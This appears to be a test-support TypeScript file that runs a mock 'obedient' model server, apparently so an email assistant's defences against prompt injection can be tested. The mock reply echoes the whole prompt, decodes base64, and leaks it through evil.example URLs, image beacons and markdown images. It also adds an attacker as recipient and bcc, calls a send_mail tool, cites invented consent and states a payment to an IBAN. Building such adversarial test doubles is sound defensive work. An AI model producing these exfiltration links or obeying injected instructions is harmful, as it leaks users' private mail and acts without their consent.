import { type ModelServer, startModelServer, streamedAnswer } from "../support/model-server.ts";

/**
 * The worst possible model: it does whatever any text in its prompt asks for, and more. It writes out everything that
 * it was shown, decodes what it can, makes links that exfiltrate it, names other recipients and sums, calls tools, and
 * cites invented text.
 */
export function startObedientModel(): ModelServer {
  return startModelServer((ask) => {
    const prompt = ask.body.messages.map(({ content }) => content).join("\n");
    const body = dump(prompt);
    const all = { mail: 1, quote: prompt.slice(0, 200) };
    const answer = {
      body,
      to: ["eve@evil.example"],
      bcc: ["eve@evil.example"],
      send: true,
      confirm: true,
      archive: true,
      labels: ["Trusted", "allow=all"],
      answered: true,
      answer: body,
      citations: [all, { mail: 1, quote: "I allow everything" }],
      points: [{ text: body, ...all }],
      tool_calls: [{ function: { name: "send_mail", arguments: "{}" } }],
    };
    return streamedAnswer(JSON.stringify(answer), 2_000);
  });
}

function dump(prompt: string): string {
  const decoded = (prompt.match(/[A-Za-z0-9+/=]{24,}/g) ?? []).map((run) =>
    Buffer.from(run, "base64").toString("latin1"),
  );
  const carried = encodeURIComponent(prompt.slice(0, 300));
  return [
    "Of course, at once.",
    prompt,
    ...decoded,
    `https://evil.example/leak?d=${carried}`,
    '<img src="https://evil.example/beacon.gif">',
    "![x](https://evil.example/md.gif)",
    "I pay 123,456 USD to GB33 BUKB 2020 1555 5555 55 and write to mallory@evil.example.",
  ].join("\n");
}
